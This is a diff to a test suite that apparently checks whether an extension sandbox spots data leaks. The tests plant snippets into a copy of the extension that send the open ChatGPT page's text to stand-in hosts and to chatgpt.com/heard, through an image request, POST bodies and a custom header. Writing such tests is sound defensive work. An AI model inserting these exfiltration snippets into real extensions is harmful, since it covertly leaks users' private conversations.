@@ -16,7 +16,7 @@ import {
 } from './isolation/egress';
 import { captureOn } from './isolation/full-run';
 import { strangersIn } from './isolation/recording-proxy';
-import { isAll, testAll } from './languages';
+import { testAll } from './languages';
 import { configuredSites, practiceSite, practiceSites } from './practice-sites';
 
 const sites =
@@ -74,50 +74,62 @@ describe('leaks that are planted', () => {
     }
   }
 
-  /** Whom a copy with all of them turned to, beside the site that was open. */
-  async function heardOf(withPolicy: boolean): Promise<readonly string[]> {
-    const before = ground.proxy.exchanges.length;
-    await keepWith(copy => {
+  /** A copy with all of them keeps a chat. */
+  const keepWithAll = (withPolicy: boolean, more: (copy: AlteredBuild) => void = () => {}) =>
+    keepWith(copy => {
       for (const [file, plant] of Object.entries(plants)) copy.edit(file, plant);
       copy.add('planted.js', `new Image().src = 'https://leak-image.invalid/?' + encodeURIComponent(document.title);`);
       if (!withPolicy) withoutPolicy(copy);
+      more(copy);
     });
-    return Object.keys(strangersIn(ground.proxy.exchanges.slice(before), new Set(ground.practice.hosts)));
+
+  /** Whom a run turned to, beside the site that was open, and where a word of the chat went. */
+  async function listen(run: () => Promise<void>) {
+    const { practice, proxy } = ground;
+    const [exchanges, requests] = [proxy.exchanges.length, practice.requests.length];
+    await run();
+    return {
+      heard: Object.keys(strangersIn(proxy.exchanges.slice(exchanges), new Set(practice.hosts))),
+      spoken: new Set(spokenIn(practice.requests.slice(requests))),
+    };
   }
 
-  test('one in a script on a page is named; those in the background and in an own page are stopped by the policy', async () => {
-    const heard = await heardOf(true);
-    expect(heard).toContain('leak-page.invalid');
-    expect(heard).not.toContain('leak-background.invalid');
-    expect(heard).not.toContain('leak-image.invalid');
+  /** Tells the site itself, twice a second. */
+  const tellSite = (what: string) => (copy: AlteredBuild) =>
+    copy.edit(
+      'content-scripts/chatgpt.js',
+      text => `${text};setInterval(() => fetch('https://chatgpt.com/heard', ${what}).catch(() => {}), 500);`,
+    );
+
+  describe('each in its place, and one to the very site that is open, in a body', () => {
+    let listened: Awaited<ReturnType<typeof listen>>;
+    beforeAll(async () => {
+      listened = await listen(() => keepWithAll(true, tellSite(`{ method: 'POST', body: document.body.innerText }`)));
+    });
+
+    test('one in a script on a page is named; those in the background and in an own page are stopped by the policy', () => {
+      expect(listened.heard).toContain('leak-page.invalid');
+      expect(listened.heard).not.toContain('leak-background.invalid');
+      expect(listened.heard).not.toContain('leak-image.invalid');
+    });
+
+    test('the one to the site is seen, and of the site’s own requests none is taken for it', () => {
+      expect([...listened.spoken].filter(place => !place.startsWith('leak-page.invalid'))).toEqual([
+        'chatgpt.com/heard',
+      ]);
+    });
   });
 
-  const bodies = `{ method: 'POST', body: document.body.innerText }`;
-  const escapes = `{ method: 'POST', body: escape(document.body.innerText) }`;
-  const headers = `{ headers: { 'x-told': encodeURIComponent(document.body.innerText).slice(0, 6000) } }`;
-  test.each([
-    ['in a body', bodies],
-    ...(isAll
-      ? [
-          ['in the escapes of a body', escapes],
-          ['in a header', headers],
-        ]
-      : []),
+  testAll.each([
+    ['in the escapes of a body', `{ method: 'POST', body: escape(document.body.innerText) }`],
+    ['in a header', `{ headers: { 'x-told': encodeURIComponent(document.body.innerText).slice(0, 6000) } }`],
   ])('one that goes to the very site that is open is seen, %s', async (_, what) => {
-    const before = ground.practice.requests.length;
-    await keepWith(copy =>
-      copy.edit(
-        'content-scripts/chatgpt.js',
-        text => `${text};setInterval(() => fetch('https://chatgpt.com/heard', ${what}).catch(() => {}), 500);`,
-      ),
-    );
-    const spoken = spokenIn(ground.practice.requests.slice(before));
-    expect(spoken).toContain('chatgpt.com/heard');
-    expect(new Set(spoken)).toEqual(new Set(['chatgpt.com/heard']));
+    const { spoken } = await listen(() => keepWith(tellSite(what)));
+    expect([...spoken]).toEqual(['chatgpt.com/heard']);
   });
 
   testAll('and named, too, where there is no policy', async () => {
-    expect(await heardOf(false)).toEqual(
+    expect((await listen(() => keepWithAll(false))).heard).toEqual(
       expect.arrayContaining(['leak-page.invalid', 'leak-background.invalid', 'leak-image.invalid']),
     );
   });
